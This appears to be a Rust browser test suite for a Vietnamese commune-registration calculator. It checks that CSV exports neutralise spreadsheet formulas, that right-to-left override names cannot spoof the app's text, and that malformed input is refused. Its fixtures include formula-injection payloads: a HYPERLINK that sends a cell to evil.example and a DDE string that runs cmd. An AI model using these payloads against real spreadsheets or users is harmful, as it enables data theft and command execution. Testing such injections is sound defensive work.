//! Hostile input in a real browser: names a spreadsheet would run, names that turn the
//! app's words around or pass for its summary, invisible characters in counts, files of
//! another version, years nobody means.

use crate::support::*;
use fantoccini::{Client, Locator};
use ntm_calc::core::num::count::Count;
use ntm_calc::core::num::counts::Counts;
use ntm_calc::core::rules::tier::Tier;
use ntm_calc::core::stored::record::CommuneRecord;
use ntm_calc::core::stored::share;
use ntm_calc::core::table::csv;
use serde_json::json;

/// What a spreadsheet runs when it opens a CSV (OWASP's examples, and a plain sum).
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
];

/// A name ending in an unclosed right-to-left override, followed by text written to read
/// like the app's own summary of a link.
const SPOOF: &str = "Xã Giả\u{202e} — đăng ký NTM kiểu mẫu — 500 / 500 hồ sơ trực tuyến";
/// The same name as the app keeps it.
const SPOOF_CLEAN: &str = "Xã Giả — đăng ký NTM kiểu mẫu — 500 / 500 hồ sơ trực tuyến";

/// Sets the input named `name` to `text` with one input (or change) event, as a paste does:
/// characters no keyboard has (U+202E, U+200B) arrive the same in both browsers.
async fn paste_into(c: &Client, name: &str, text: &str, event: &str) {
    let input = c
        .find(Locator::Css(&format!("[name=\"{name}\"]")))
        .await
        .unwrap_or_else(|e| panic!("no input {name}: {e}"));
    c.execute(
        "const [el, text, kind] = arguments; el.value = text; \
         el.dispatchEvent(new Event(kind, {bubbles: true})); return 0;",
        vec![
            serde_json::to_value(&input).unwrap(),
            json!(text),
            json!(event),
        ],
    )
    .await
    .expect("paste into the field");
}

/// Checks, in the element `selector` selects, that no direction control is shown and that
/// `name` is held by an element of its own that is isolated (`<bdi>` or computed
/// `unicode-bidi: isolate`). Answers "isolated" or what is wrong.
async fn isolation(c: &Client, selector: &str, name: &str) -> String {
    let answer = c
        .execute(
            r#"const [sel, name] = arguments;
            const root = document.querySelector(sel);
            if (!root) return 'nothing matches ' + sel;
            if (/[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/.test(root.textContent))
                return 'a direction control is shown in ' + sel + ': ' + JSON.stringify(root.textContent);
            const holders = [...root.querySelectorAll('*')].filter(e => e.textContent.trim() === name);
            if (!holders.length) return 'no element of ' + sel + ' holds the name alone: ' + root.innerHTML;
            const isolated = holders.some(e => e.tagName === 'BDI'
                || ['isolate', 'isolate-override', 'plaintext'].includes(getComputedStyle(e).unicodeBidi));
            return isolated ? 'isolated' : 'not isolated in ' + sel + ': ' + holders.map(e => e.outerHTML).join(' ');"#,
            vec![json!(selector), json!(name)],
        )
        .await
        .expect("isolation check");
    answer.as_str().unwrap_or("no answer").to_owned()
}

async fn expect_isolated(c: &Client, selector: &str, name: &str) {
    let name = name.to_owned();
    eventually(selector, "isolated".to_owned(), || {
        isolation(c, selector, &name)
    })
    .await;
}

fn has_bidi_control(text: &str) -> bool {
    text.chars().any(ntm_calc::core::text::is_bidi_control)
}

#[test]
fn csv_export_keeps_spreadsheets_from_running_names_and_imports_back_exactly() {
    let server = Server::dist();
    let (downloads, setup) = download_setup("downloads");
    run_with(setup, move |c| async move {
        open(&c, &table_url(&server)).await;
        let mut table = String::from("Tên đơn vị\tNhóm\tTổng số hồ sơ\tTrực tuyến\tGhi chú\n");
        for name in FORMULAS {
            table.push_str(&format!("{name}\t=1+2\t100\t40\t@ghi chú\n"));
        }
        import_table(&c, &table).await;
        expect_text(&c, "row-count", Some("4 đơn vị")).await;
        click(&c, "export-csv").await;
        let text = wait_for_download(&downloads, "csv", FORMULAS.len() + 1).await;
        assert!(text.starts_with('\u{feff}'), "UTF-8 with a byte-order mark");
        let rows = csv::parse(&text, ',');
        assert_eq!(rows.len(), FORMULAS.len() + 1, "{text}");
        for (row, name) in rows[1..].iter().zip(FORMULAS) {
            assert_eq!(row[0], format!("'{name}"), "the name cell: {row:?}");
            assert_eq!(row[1], "'=1+2", "the group cell: {row:?}");
            assert_eq!(row[8], "'@ghi chú", "the note cell: {row:?}");
            // The app's own numbers are written as numbers.
            assert_eq!(
                (row[4].as_str(), row[5].as_str(), row[7].as_str()),
                ("100", "40", "40,00"),
                "{row:?}"
            );
        }

        // The export read back: every name, group and note as it was.
        click_css(&c, "[name=import_replace]").await;
        import_table(&c, &text).await;
        expect_text(&c, "import-done", Some("Đã nhập 4 đơn vị vào bảng.")).await;
        let units = stored(&c, "ntm-calc.table").await["data"].clone();
        let read: Vec<(String, String, String)> = units["units"]
            .as_array()
            .expect("stored units")
            .iter()
            .map(|u| {
                let s = |k: &str| u[k].as_str().unwrap_or_default().to_owned();
                (s("name"), s("group"), s("note"))
            })
            .collect();
        let expected: Vec<(String, String, String)> = FORMULAS
            .iter()
            .map(|n| (n.to_string(), "=1+2".to_owned(), "@ghi chú".to_owned()))
            .collect();
        assert_eq!(read, expected);
    });
}

#[test]
fn a_spoofing_name_is_isolated_in_the_verdict_and_the_share_preview() {
    let server = Server::dist();
    let c_ = |n| Count::new(n).unwrap();
    let link = share::encode(&CommuneRecord {
        name: SPOOF.into(),
        registered: Tier::NTM,
        dx: false,
        counts: Some(Counts::new(c_(1_000), c_(100), None).unwrap()),
        rule_set: "khanh-hoa-xa-2022-2025".into(),
        commune_group: None,
    });
    // On a phone, where the summary wraps.
    run_sized((390, 844), move |c| async move {
        open(&c, &server.url).await;
        paste_into(&c, "commune_name", SPOOF, "input").await;
        type_into(&c, "total", "1000").await;
        type_into(&c, "online", "600").await;
        expect_text(&c, "rate", Some("60,00 %")).await;
        expect_isolated(&c, "[data-testid=verdict]", SPOOF_CLEAN).await;
        eventually("stored name", json!(SPOOF_CLEAN), || async {
            stored(&c, "ntm-calc.commune").await["data"]["name"].clone()
        })
        .await;

        // The share page shows what the link will hold, the name apart.
        open(&c, &share_url(&server)).await;
        expect_isolated(&c, "[data-testid=share-summary]", SPOOF_CLEAN).await;

        // A link someone else made, with the override still in it.
        open_anew(&c, &format!("{}#{link}", share_url(&server))).await;
        expect_isolated(&c, "[data-testid=share-incoming]", SPOOF_CLEAN).await;
        expect_isolated(&c, "[data-testid=share-current]", SPOOF_CLEAN).await;
        let weight = exec(
            &c,
            "const p = document.querySelector('[data-testid=share-incoming]'); \
             return [getComputedStyle(p).fontWeight, getComputedStyle(p.querySelector('bdi')).fontWeight];",
        )
        .await;
        assert_eq!(
            weight,
            json!(["400", "700"]),
            "the name stands out from the app's words"
        );
        screenshot(&c, "share-spoofing-name-390").await;
        click(&c, "share-accept").await;
        // The click navigates: until the calculator is there, the old page may still answer.
        expect_calculator_of(&c, "calculator opened", SPOOF_CLEAN).await;
        let name = stored(&c, "ntm-calc.commune").await["data"]["name"].clone();
        assert!(
            !has_bidi_control(name.as_str().unwrap_or_default()),
            "{name}"
        );
    });
}

#[test]
fn spoofing_names_are_isolated_in_table_rows_and_group_verdicts() {
    let server = Server::dist();
    run(move |c| async move {
        open(&c, &table_url(&server)).await;
        import_table(
            &c,
            &format!(
                "Tên đơn vị\tNhóm\tTổng số hồ sơ\tTrực tuyến\tGhi chú\n\
                 {SPOOF}\tHuyện Giả\u{202e}\t100\t10\tĐạt 100 %\n\
                 Xã Thật\tHuyện Giả\u{202e}\t100\t50\t\n"
            ),
        )
        .await;
        expect_text(&c, "row-count", Some("2 đơn vị")).await;
        let row = "[data-testid=unit-row][data-status=fail] td.name";
        expect_isolated(&c, row, SPOOF_CLEAN).await;
        expect_isolated(&c, "[data-testid=unit-row] .note-cell", "Đạt 100 %").await;
        expect_isolated(&c, "[data-testid=group-verdict] .tier-head", "Huyện Giả").await;
        expect_isolated(&c, "[data-testid=group-verdict] .parts", SPOOF_CLEAN).await;
        expect_isolated(&c, "[data-testid=ranking-bottom]", SPOOF_CLEAN).await;
        let names = exec(
            &c,
            "return [...document.querySelectorAll('[data-testid=unit-row]')].map(r => r.dataset.name);",
        )
        .await;
        assert_eq!(names, json!([SPOOF_CLEAN, "Xã Thật"]));
        screenshot(&c, "table-spoofing-name-1280").await;
    });
}

#[test]
fn spoofing_names_are_cleaned_in_the_unit_bar_and_isolated_in_the_report() {
    let server = Server::dist();
    let history = json!({"schema": 1, "data": {
        "units": [{"name": SPOOF, "history": [{"month": "2024-05", "total": 100, "online": 40}]}],
        "report": {"place": "Vạn\u{202e} Ninh", "number": "12\u{202e}/BC"}
    }})
    .to_string();
    run(move |c| async move {
        open(&c, &history_url(&server)).await;
        set_stored(&c, "ntm-calc.history", &history).await;
        reload(&c).await;
        eventually("the unit's name", SPOOF_CLEAN.to_owned(), || {
            input_value(&c, "history_unit_name")
        })
        .await;
        let option = exec(
            &c,
            "return document.querySelector('[name=history_unit] option').textContent;",
        )
        .await;
        assert_eq!(option, json!(SPOOF_CLEAN));
        // A name typed (or pasted) into the unit bar is kept clean.
        paste_into(
            &c,
            "history_unit_name",
            "Xã Mới\u{202e}\u{2066} — 100 %",
            "change",
        )
        .await;
        eventually("the renamed unit", json!("Xã Mới — 100 %"), || async {
            stored(&c, "ntm-calc.history").await["data"]["units"][0]["name"].clone()
        })
        .await;
        paste_into(&c, "history_unit_name", SPOOF, "change").await;

        open_anew(&c, &report_url(&server)).await;
        expect_isolated(&c, "[data-testid=report-row] th.name", SPOOF_CLEAN).await;
        expect_isolated(&c, "[data-testid=report-date]", "Vạn Ninh").await;
        expect_isolated(&c, ".doc-number", "12/BC").await;
    });
}

#[test]
fn invisible_characters_in_counts_are_left_out() {
    let server = Server::dist();
    run(move |c| async move {
        open(&c, &server.url).await;
        paste_into(&c, "total", "1\u{200b}000", "input").await;
        paste_into(&c, "online", "5\u{ad}0\u{feff}0", "input").await;
        expect_text(&c, "rate", Some("50,00 %")).await;
        let errors = exec(
            &c,
            "return [...document.querySelectorAll('.error')].map(e => e.textContent).join('');",
        )
        .await;
        assert_eq!(errors, json!(""));
    });
}

/// Pastes each case's text into the table page's import box: the error says `says`, then
/// the case's reason in brackets.
async fn expect_import_errors(c: &Client, cases: &[(&str, &str)], says: &str) {
    for (text, why) in cases {
        paste_table(c, text).await;
        expect_text(c, "import-error", Some(&format!("{says} ({why})"))).await;
    }
}

#[test]
fn json_files_that_cannot_be_read_say_why_in_words() {
    let server = Server::dist();
    run(move |c| async move {
        open(&c, &table_url(&server)).await;
        let cases = [
            ("{ không phải json", "không phải JSON hợp lệ"),
            (r#"{"todos": []}"#, "không phải tệp của ứng dụng này"),
            (
                r#"{"schema": 7, "data": {}}"#,
                "tệp do phiên bản mới hơn của ứng dụng ghi (định dạng 7): hãy cập nhật ứng dụng (tải lại trang khi có mạng) rồi mở lại tệp",
            ),
            (r#"{"schema": 1, "data": {"units": 5}}"#, "số liệu không hợp lệ"),
        ];
        expect_import_errors(&c, &cases, "Không đọc được tệp JSON này").await;
        click(&c, "lang-switch").await;
        wait_for_app(&c).await;
        let cases = [
            ("{ not json", "not valid JSON"),
            (r#"{"todos": []}"#, "not a file of this app"),
            (
                r#"{"schema": 7, "data": {}}"#,
                "written by a newer version of the app (format 7): update the app (reload the page while online), then open the file again",
            ),
            (r#"{"schema": 1, "data": {"units": 5}}"#, "impossible values"),
        ];
        expect_import_errors(&c, &cases, "This JSON file could not be read").await;
    });
}

#[test]
fn a_period_year_nobody_means_is_refused_at_its_field() {
    let server = Server::dist();
    run(move |c| async move {
        open(&c, &history_url(&server)).await;
        type_into(&c, "history_unit_name", "Xã A").await;
        let error = || async {
            exec(
                &c,
                "return document.getElementById('period_year-error').textContent;",
            )
            .await
        };
        let message = json!("Năm của kỳ phải từ 2000 đến 2100, viết đủ bốn chữ số (ví dụ 2024).");
        for year in ["1000", "1001", "1999", "2101", "9999"] {
            type_into(&c, "period_year", year).await;
            eventually(year, message.clone(), error).await;
            assert_eq!(
                stored(&c, "ntm-calc.history").await["data"]["units"][0]["period"],
                json!(null),
                "no period kept for {year}"
            );
        }
        type_into(&c, "period_year", "2024").await;
        eventually("2024", json!(""), error).await;
        expect_text(&c, "period-text", Some("01/12/2023 – 30/11/2024")).await;
    });
}
